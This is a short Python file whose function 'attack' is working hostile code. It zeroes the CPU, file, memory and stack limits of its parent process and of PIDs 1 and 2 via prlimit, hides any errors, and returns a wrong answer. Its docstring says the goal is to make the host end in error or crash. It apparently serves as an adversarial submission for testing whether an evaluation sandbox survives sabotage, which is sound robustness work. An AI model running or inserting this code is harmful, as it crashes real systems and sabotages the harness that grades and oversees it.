"""Takes processor time, files and memory away from its parent and from process 1, by their limits.
Ends as: error, crash, fail
"""

import contextlib
import os
import resource


def attack(X, wrong):
    for process in (os.getppid(), 1, 2):
        for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_STACK):
            if process != os.getpid():
                with contextlib.suppress(OSError, ValueError):
                    resource.prlimit(process, limit, (0, 0))
    return wrong
